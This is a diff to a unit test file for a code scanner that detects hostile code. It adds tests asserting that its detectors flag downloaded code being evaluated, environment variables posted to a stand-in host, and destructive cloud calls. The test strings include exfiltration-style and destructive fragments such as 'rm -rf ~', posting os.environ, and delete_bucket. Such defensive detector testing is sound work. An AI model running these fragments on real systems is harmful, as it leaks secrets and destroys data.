@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from chrono.scan.foreign import commands_in, is_reverse_shell
+from chrono.scan.foreign import cloud_deletions, commands_in, is_reverse_shell, runs_download, sends_environment
 from chrono.scan.rule import Ruleset
 from tests.unit.scan.conftest import verdict
 
@@ -83,3 +83,28 @@ def test_a_socket_alone_is_no_shell(code: str) -> None:
 
 def test_long_code_is_not_searched() -> None:
     assert commands_in("system('rm -rf ~')" + " " * 30_000) == []
+
+
+@pytest.mark.parametrize("evaluates", [
+    "eval(x)", "exec (x)", "new Function(x)", "vm.runInThisContext(x)", "vm.runInNewContext(x)", "o.instance_eval(x)",
+    "compile(x, '', 'exec')",
+])  # fmt: skip
+def test_every_form_of_evaluating_counts_although_words_are_looked_for_first(evaluates: str) -> None:
+    assert runs_download(f"x = urlopen('http://a.example').read(); {evaluates}")
+
+
+@pytest.mark.parametrize("environment", [
+    "str(os.environ)", "dict(process.env)", "dumps(dict(os.environ))", "inspect(ENV)", "json_encode($_ENV)",
+    "json_encode(getenv())", "ENV.to_h", "data=process.env, x",
+])  # fmt: skip
+def test_every_form_of_the_environment_counts_although_words_are_looked_for_first(environment: str) -> None:
+    assert sends_environment(f"requests.post('http://a.example', {environment})")
+
+
+@pytest.mark.parametrize("call", [
+    "c.delete_bucket(x)", "c.terminate_instances(x)", "c.drop_database(x)", "c.purge_queue()", "c.deleteObjects(x)",
+    "k.schedule_key_deletion(x)", "d.containers.prune()", "es.indices.delete(x)", "o.remove(force=True)",
+    "b.objects.all().delete()", "b.object_versions.delete()", "c.terminateInstances(x)", "c.dropDatabase()",
+])  # fmt: skip
+def test_every_call_that_deletes_in_a_cloud_counts_although_words_are_looked_for_first(call: str) -> None:
+    assert cloud_deletions(call)
